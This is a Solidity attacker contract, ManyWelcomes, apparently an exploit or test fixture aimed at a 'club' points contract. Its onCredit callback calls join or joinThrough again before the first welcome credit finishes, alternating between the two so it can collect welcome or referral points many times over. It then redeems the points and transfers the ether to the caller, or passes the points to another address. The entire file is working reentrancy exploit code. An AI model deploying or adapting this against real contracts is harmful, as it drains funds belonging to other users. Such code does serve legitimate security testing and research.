// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IClub {
    function join() external;

    function joinThrough(address referrer) external;

    function redeem(uint256 points) external;

    function pass(address to, uint256 points) external;

    function pointsOf(address member) external view returns (uint256);
}

/// Joins again while the club announces the welcome of the first time.
contract ManyWelcomes {
    IClub private immutable club;
    address private referrer;
    uint256 private left;
    bool private plain;

    error NotWorthIt();

    constructor(IClub club_) {
        club = club_;
    }

    /// Every second time through a referrer.
    function run(address referrer_, uint256 rounds) external {
        referrer = referrer_;
        left = rounds;
        club.join();
        cash();
    }

    /// Never by the same function as the time before, beginning with a referrer.
    function runThrough(address referrer_, uint256 rounds) external {
        referrer = referrer_;
        left = rounds;
        plain = true;
        club.joinThrough(referrer_);
        cash();
    }

    /// Hands the points to somebody else to cash.
    function runFor(address referrer_, uint256 rounds, address to) external {
        referrer = referrer_;
        left = rounds;
        club.join();
        club.pass(to, club.pointsOf(address(this)));
    }

    function onCredit(address, uint256) external {
        if (left == 0) return;
        left--;
        plain = !plain;
        if (plain) club.joinThrough(referrer);
        else club.join();
    }

    function cash() private {
        if (left > 0) revert NotWorthIt();
        club.redeem(club.pointsOf(address(this)));
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
